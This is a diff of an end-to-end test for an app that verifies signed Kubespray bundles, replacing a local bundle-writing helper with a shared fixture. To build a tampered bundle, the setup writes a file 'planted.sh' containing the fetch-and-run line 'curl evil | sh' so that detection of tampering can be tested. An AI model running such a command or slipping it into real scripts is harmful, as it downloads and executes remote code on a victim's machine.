@@ -4,11 +4,10 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import type { Browser, Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import type { BundleManifest } from '../../electron/common/bundle-manifest';
 import { generateSigningKey } from '../../electron/node/bundles/bundle-signing';
 import { addOperatorKey } from '../../electron/node/bundles/trusted-publishers';
-import { collectFileEntries, writeSignedManifest } from '../../electron/node/bundles/write-manifest';
 import { repoRoot, startServe, type ServeProcess } from '../support/airspray-serve';
+import { writeSignedKubesprayBundle } from '../support/bundle-fixtures';
 import { launchChromium } from '../support/chromium';
 
 const screenshotDir = join(repoRoot, 'test-results', 'screenshots');
@@ -17,29 +16,6 @@ let serve: ServeProcess;
 let browser: Browser;
 let largeBundle: string;
 let tamperedBundle: string;
-
-async function writeBundle(
-  dir: string,
-  bundleId: string,
-  key: ReturnType<typeof generateSigningKey>,
-  known: Map<string, { sha256: string }> = new Map(),
-): Promise<void> {
-  await mkdir(join(dir, 'kubespray'), { recursive: true });
-  await writeFile(join(dir, 'kubespray', 'cluster.yml'), '- import_playbook: playbooks/cluster.yml\n');
-  const manifest: BundleManifest = {
-    formatVersion: 1,
-    bundleId,
-    createdAt: '2026-11-25T09:30:00.000Z',
-    kubespray: { version: '2.23.3' },
-    kubernetesVersions: ['1.27.10'],
-    architectures: ['amd64'],
-    operatingSystems: [{ id: 'debian', version: '12' }],
-    networkPlugins: ['calico'],
-    files: await collectFileEntries(dir, known),
-    images: [],
-  };
-  await writeSignedManifest(dir, manifest, key.privateKeyPem);
-}
 
 beforeAll(async () => {
   const root = await mkdtemp(join(tmpdir(), 'airspray-e2e-bundle-'));
@@ -67,12 +43,12 @@ beforeAll(async () => {
     await file.close();
     known.set(`images/docker/registry/v2/blobs/layer-${index}`, { sha256 });
   }
-  await writeBundle(largeBundle, 'ks-2.23.3-large', key, known);
+  await writeSignedKubesprayBundle(largeBundle, 'ks-2.23.3-large', key, known);
 
   tamperedBundle = join(bundles, 'kubespray-2.23.3-tampered');
   await mkdir(join(tamperedBundle, 'files', 'dl.k8s.io'), { recursive: true });
   await writeFile(join(tamperedBundle, 'files', 'dl.k8s.io', 'kubeadm'), randomBytes(4096));
-  await writeBundle(tamperedBundle, 'ks-2.23.3-tampered', key);
+  await writeSignedKubesprayBundle(tamperedBundle, 'ks-2.23.3-tampered', key);
   await writeFile(join(tamperedBundle, 'files', 'dl.k8s.io', 'kubeadm'), randomBytes(4096));
   await writeFile(join(tamperedBundle, 'files', 'planted.sh'), 'curl evil | sh\n');
 
